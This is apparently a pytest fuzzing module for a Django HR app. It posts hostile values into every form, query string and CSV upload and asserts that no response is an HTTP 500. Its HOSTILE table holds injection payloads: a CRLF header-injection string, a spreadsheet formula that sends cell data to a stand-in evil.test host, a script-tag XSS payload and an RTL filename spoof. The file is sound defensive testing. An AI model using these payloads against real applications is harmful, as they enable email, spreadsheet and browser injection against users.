"""Fuzz every form and upload of the app with hostile values: no answer may be an HTTP 500.

Each URL pattern classified in tests/<app>/isolation.py is opened (its object built by the
classification's builder) by an HR admin and by a plain member, with hostile query strings.
Every form found in the page (other than log out) is then posted with each hostile value
in all its text fields, a hostile CSV in its file fields and the page's own choices
elsewhere. Runs on whatever database the suite uses; CI uses PostgreSQL, where a NUL byte
reaching a query is an error.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.conftest import Cast
from tests.isolation_rules import Rule
from tests.test_isolation import CLASSIFIED, all_patterns

HOSTILE = {
    "nul": "nul\x00byte",
    "controls": "ctrl\x01\x08\x1b[31m\x7f\x9b",
    "crlf": "line\r\nBcc: victim@evil.test\r\nX-INJECT:1",
    "formula": '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "markup": 'Q<img src="/etc/passwd"/><script>alert(1)</script>',
    "long": "L" * 10_000,
    "rtl": "مرحبا \u202eexe.fdp",
}
QUERY_KEYS = ("q", "page", "status", "order", "mode", "from", "department", "role", "topic")
SKIPPED_ACTIONS = ("/accounts/logout/",)
FIGURES: Counter[str] = Counter()


@dataclass
class Form:
    action: str
    method: str
    texts: list[str] = field(default_factory=list)
    files: list[str] = field(default_factory=list)
    choices: dict[str, str] = field(default_factory=dict)
    fixed: dict[str, str] = field(default_factory=dict)


class _FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.forms: list[Form] = []
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            self.forms.append(Form(a.get("action", ""), a.get("method", "get").lower()))
            return
        if not self.forms or not a.get("name"):
            if tag == "option" and self._select and self.forms:
                self.forms[-1].choices.setdefault(self._select, a.get("value", ""))
            return
        form, name = self.forms[-1], a["name"]
        if tag == "textarea":
            form.texts.append(name)
        elif tag == "select":
            self._select = name
        elif tag == "input":
            kind = a.get("type", "text").lower()
            if kind == "file":
                form.files.append(name)
            elif kind in ("hidden", "submit"):
                form.fixed.setdefault(name, a.get("value", ""))
            elif kind in ("checkbox", "radio"):
                form.choices.setdefault(name, a.get("value", "on"))
            else:
                form.texts.append(name)

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None


def _forms(html: str, page_url: str) -> list[Form]:
    parser = _FormParser()
    parser.feed(html)
    found = []
    for form in parser.forms:
        form.action = urlsplit(urljoin(page_url, form.action or page_url)).path
        if form.action not in SKIPPED_ACTIONS and (form.texts or form.files):
            found.append(form)
    return found


def _hostile_csv(value: str) -> SimpleUploadedFile:
    content = "email,first_name,last_name,department\n" + (
        f"hostile@a.test,{value[:200]},Doe,{value[:200]}\nsecond@a.test,Ann,Lee,=1+1\n"
    )
    return SimpleUploadedFile("hostile.csv", content.encode("utf-8"), content_type="text/csv")


def _request(client: Client, method: str, url: str, data: dict[str, Any] | None = None) -> int:
    FIGURES["requests"] += 1
    try:
        response = getattr(client, method)(url, data or {}, follow=False)
    except Exception as error:  # what a server would answer with a 500
        FIGURES["http_500"] += 1
        pytest.fail(f"{method.upper()} {url} raised {type(error).__name__}: {error}"[:500])
    if response.status_code >= 500:
        FIGURES["http_500"] += 1
    return int(response.status_code)


def _urls() -> Iterator[tuple[str, Rule]]:
    names = {p.name for p in all_patterns()}
    for name, rule in CLASSIFIED.items():
        if (name in names and rule.kind != "public") or name in ("organisation-create",):
            yield name, rule
    # allauth's own forms, posted anonymously.
    yield from (("account_login", Rule("public")), ("account_signup", Rule("public")))
    yield "account_reset_password", Rule("public")


def _client(member: Any) -> Client:
    client = Client()
    client.force_login(member.user)
    return client


@pytest.fixture(scope="module", autouse=True)
def _print_figures() -> Iterator[None]:
    """Print the figures (shown with `pytest -s`) once every URL of the module was fuzzed."""
    yield
    print(
        f"\nform fuzz: {FIGURES['urls']} URLs opened, {FIGURES['forms']} forms posted "
        f"with {len(HOSTILE)} hostile values each ({FIGURES['posts']} posts), "
        f"{FIGURES['requests']} requests in all, {FIGURES['http_500']} HTTP 500"
    )


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "rule"), list(_urls()), ids=lambda v: str(v)[:40])
def test_hostile_values_in_every_form_never_give_a_500(name: str, rule: Rule, cast: Cast) -> None:
    kwargs = rule.build(cast) if rule.build else {}
    if rule.kind.startswith("tenant"):
        kwargs = {"org_slug": cast.org_a.slug, **kwargs}
    url = reverse(name, kwargs=kwargs)
    clients = [Client()] if rule.kind == "public" else [_client(cast.alice), _client(cast.bob)]
    FIGURES["urls"] += 1
    statuses = []
    for client in clients:
        for value in HOSTILE.values():
            statuses.append(_request(client, "get", url, dict.fromkeys(QUERY_KEYS, value)))
        response = client.get(url)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        for form in _forms(response.content.decode("utf-8"), url):
            FIGURES["forms"] += 1
            for value in HOSTILE.values():
                data: dict[str, Any] = {**form.fixed, **form.choices}
                data.update(dict.fromkeys(form.texts, value))
                data.update({name: _hostile_csv(value) for name in form.files})
                FIGURES["posts"] += 1
                statuses.append(_request(client, form.method, form.action, data))
        break  # the first client that sees the page's forms is enough
    assert all(status < 500 for status in statuses), statuses


def test_query_keys_cover_the_raw_get_parameters_read_by_views() -> None:
    # A view reading request.GET directly must have its key fuzzed above.
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    keys = set()
    for path in root.glob("*/views*.py"):
        keys |= set(re.findall(r"request\.GET\.get\(\"(\w+)\"", path.read_text()))
    for path in root.glob("*/views/*.py"):
        keys |= set(re.findall(r"request\.GET\.get\(\"(\w+)\"", path.read_text()))
    assert keys <= set(QUERY_KEYS), keys - set(QUERY_KEYS)
